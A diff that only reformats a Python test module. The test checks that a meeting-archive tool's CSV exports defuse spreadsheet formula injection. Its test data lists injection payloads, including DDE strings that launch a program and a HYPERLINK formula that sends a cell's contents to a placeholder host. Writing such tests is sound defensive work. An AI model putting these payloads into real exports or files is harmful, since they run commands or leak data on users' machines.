@@ -21,8 +21,20 @@ from site_meetings import meeting
 
 STARTS = ("=", "+", "-", "@", "\t", "\r")
 PAYLOADS = (
-    "cmd|' /C calc'!A0", "1+1", "SUM(1+1)*cmd|' /C calc'!A0", 'HYPERLINK("https://x.example?"&A1,"x")', "", "\n=1", '"=1', "'=1",
-    "\x00=1", "=1", "\u200b=1", ",=1", ";=1", "\r\n=1",
+    "cmd|' /C calc'!A0",
+    "1+1",
+    "SUM(1+1)*cmd|' /C calc'!A0",
+    'HYPERLINK("https://x.example?"&A1,"x")',
+    "",
+    "\n=1",
+    '"=1',
+    "'=1",
+    "\x00=1",
+    "=1",
+    "\u200b=1",
+    ",=1",
+    ";=1",
+    "\r\n=1",
 )
 # Before the sign; what is dropped from a cell must not bring a formula to its beginning.
 BEFORE = ("", "\x00", "\x1b", "\x7f", "\x00\x01", "\x9f")
@@ -42,7 +54,9 @@ def attempt(case: Case) -> str | None:
     for name, rows in tables.items():
         heads = rows[0]
         live = [
-            (column, cell) for row in rows for column, cell in zip(heads, row, strict=True)
+            (column, cell)
+            for row in rows
+            for column, cell in zip(heads, row, strict=True)
             if cell.startswith(FORMULA) and not (column in {"rank", "score"} and _is_number(cell))
         ]
         if live:
@@ -60,7 +74,22 @@ def _is_number(cell: str) -> bool:
 
 def _page(text: str) -> ResultPage:
     hit = Hit(
-        1, -1.0, text, text, text, text, text, text, text, False, Snippet(text), text, (text, text), text, text, (text,),
+        1,
+        -1.0,
+        text,
+        text,
+        text,
+        text,
+        text,
+        text,
+        text,
+        False,
+        Snippet(text),
+        text,
+        (text, text),
+        text,
+        text,
+        (text,),
         Source(text, text, text),
     )
     return ResultPage(text, Audience.PUBLIC, {}, 1, 0.0, None, (hit, replace(hit, text=text)), {})
@@ -77,8 +106,17 @@ def _printed(folder: Path, text: str, word: str) -> dict[str, str]:
     """What the commands print of a record of which every text begins so."""
     said = f"{text} {word}"
     items = [
-        {"id": f"b/2024-01-01/{number}", "title": said, "number": text, "url": text, "minutes_text": f"{said}\n\n{said}",
-         "decision_text": said, "audience": "public", "restriction": "exempt", "restriction_reason": text}
+        {
+            "id": f"b/2024-01-01/{number}",
+            "title": said,
+            "number": text,
+            "url": text,
+            "minutes_text": f"{said}\n\n{said}",
+            "decision_text": said,
+            "audience": "public",
+            "restriction": "exempt",
+            "restriction_reason": text,
+        }
         for number in (1, 2)
     ]
     meeting_told = {"id": "b/2024-01-01", "date": "2024-01-01", "body": text, "council": text, "audience": "public"}
@@ -87,7 +125,11 @@ def _printed(folder: Path, text: str, word: str) -> dict[str, str]:
     archive = folder / "archive"
     added = typed("--archive", archive, "add", folder / "one.jsonl")
     assert added.status == 0, added.err
-    asked = {"search": ("search", word, "--csv", "--full-text"), "trace": ("trace", word, "--csv"), "register": ("register", "--csv")}
+    asked = {
+        "search": ("search", word, "--csv", "--full-text"),
+        "trace": ("trace", word, "--csv"),
+        "register": ("register", "--csv"),
+    }
     return {name: typed("--archive", archive, "--audience", "officer", *command).out for name, command in asked.items()}
 
 
